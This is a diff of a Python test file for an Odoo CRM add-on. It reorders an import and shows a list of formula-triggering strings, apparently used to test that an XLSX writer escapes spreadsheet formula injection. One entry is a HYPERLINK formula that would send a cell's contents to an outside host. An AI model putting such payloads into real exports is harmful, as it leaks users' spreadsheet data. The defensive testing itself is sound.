@@ -6,9 +6,8 @@ import openpyxl
 
 from odoo.tests import tagged
 
-from odoo.addons.crm_smart_base.tools import xlsx_writer
-
 from .common import SmartCrmCase
+from odoo.addons.crm_smart_base.tools import xlsx_writer
 
 #: texts a spreadsheet would take for formulas
 FORMULA_TEXTS = ['=HYPERLINK("http://x?"&A2,"click")', "+1", "-2", "@SUM(A1)"]
